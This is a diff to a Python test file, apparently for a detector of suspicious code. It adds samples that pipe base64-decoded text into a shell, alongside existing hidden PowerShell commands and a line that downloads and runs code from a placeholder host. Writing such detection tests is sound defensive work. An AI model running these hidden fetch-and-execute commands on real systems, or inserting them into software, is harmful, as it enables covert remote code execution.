@@ -66,6 +66,8 @@ UNPACKED = [
 HIDDEN_POWERSHELL = [
     "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + "QQBCAEMARABFAEYARwBIAEkA" * 2 + "')",
     "os.system('powershell.exe -nop -w hidden -c \"iex (iwr https://example.invalid/a)\"')",
+    "os.system('echo bHMK | base64 -d | bash')",
+    "subprocess.run(['sh', '-c', 'echo bHMK | base64 --decode | /bin/sh'])",
     "subprocess.run(['powershell', '-enc', '" + "QQBCAEMARABFAEYARwBIAEkA" * 2 + "'])",
 ]
 RUN_BY_OTHERS = [
@@ -145,6 +147,7 @@ def test_packages_and_downloads_by_other_programs(source: str, when_imported: st
         f"open('data.json', 'wb').write(requests.get('{URL}').content)\nsubprocess.run(['git', 'describe'])",
         f"import ast\nast.parse(requests.get('{URL}').text)",
         f"import json\njson.loads(requests.get('{URL}').text)",
+        "os.system('base64 -d a.txt > a.bin')",
         "subprocess.run(['powershell', '-Command', 'Get-Item .'])",
         "subprocess.run('curl --version | head -1', shell=True)",
         f"text = 'curl {URL} | sh'",
